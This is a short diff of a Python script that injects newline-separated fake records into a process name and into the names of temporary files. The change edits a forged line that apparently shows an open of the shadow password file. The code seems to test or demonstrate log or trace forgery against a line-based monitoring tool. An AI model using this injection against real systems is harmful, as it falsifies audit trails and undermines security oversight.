@@ -141,7 +141,7 @@ libc = ctypes.CDLL(None)
 libc.prctl(15, b"z\nX 1\nS 1 1 0 0 0 f", 0, 0, 0)
 os.makedirs("/tmp/zt-forge", exist_ok=True)
 for i in range(200):
-    p = f"/tmp/zt-forge/a{i}\nX 1\nS 1 1 0 0 59 forged\nO 1 /etc/shadow"
+    p = f"/tmp/zt-forge/a{i}\nX 1\nS 1 1 0 0 59 forged\nO 1 shadow"
     with open(p, "w") as f:
         f.write("x")
     os.unlink(p)
